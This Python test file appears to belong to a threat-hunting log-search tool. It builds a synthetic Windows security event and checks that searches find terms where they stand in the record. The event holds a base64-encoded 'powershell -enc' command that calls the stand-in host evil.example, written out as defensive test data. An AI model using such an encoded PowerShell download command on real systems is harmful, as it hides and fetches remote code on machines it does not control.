"""The pieces of records of every format: a word is found where it stands in the record, and nowhere else."""

from __future__ import annotations

import base64
import json

import pytest

from graphhunt.evidence import Workspace
from graphhunt.evidence.ingest import ingest
from graphhunt.graph.snapshot import Snapshot
from graphhunt.records.asking import RecordSearch


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


MESSAGE = "\r\n".join((
    "Something was asked for.", "", "Subject:", "\tAsked By:\tmallory",
    f"\tLine:\tpowershell -enc {encoded('Get-Hidden http://evil.example/x')}",
    f"\tOther:\tpowershell -enc {encoded('Get-Second')}",
))  # fmt: skip
EVENT = {
    "EventID": 4799, "Channel": "Security", "Hostname": "h1.example.org", "EventTime": "2020-09-20 10:00:00",
    "Message": MESSAGE, "Empty": "", "Part": 1.25, "Nested": {"Deep": [{"a": 1}, None]},
}  # fmt: skip
HOLDS = {
    "mallory": 1, "MALLORY": 1, "mall*": 1, "allory*": 0, '"asked by"': 1, '"Asked By:\tmallory"': 1, "empty": 1,
    "emp*": 1, "get-hidden": 1, "get-second": 1, 'url:"evil.example"': 1, "Message:*": 1, "Message:Something*": 1,
    'Message:"mallory"': 0, "Part:1.250": 1, "EventID:4799": 1, 'Deep:"a"': 1, "4799": 1,
}  # fmt: skip


@pytest.fixture(scope="module")
def search(tmp_path_factory: pytest.TempPathFactory) -> RecordSearch:
    """Search one record that no loader maps."""
    folder = tmp_path_factory.mktemp("pieces")
    source = folder / "events.json"
    source.write_text(json.dumps(EVENT).replace("1.25", "1.250") + "\n")
    workspace = Workspace(folder / "workspace")
    ingest(workspace, [source], workers=1)
    return RecordSearch(workspace, lambda: Snapshot(folder / "graph"), "")


@pytest.mark.parametrize("query", HOLDS)
def test_what_stands_in_a_record_is_found(search: RecordSearch, query: str) -> None:
    assert search.find(query)["total"] == HOLDS[query]
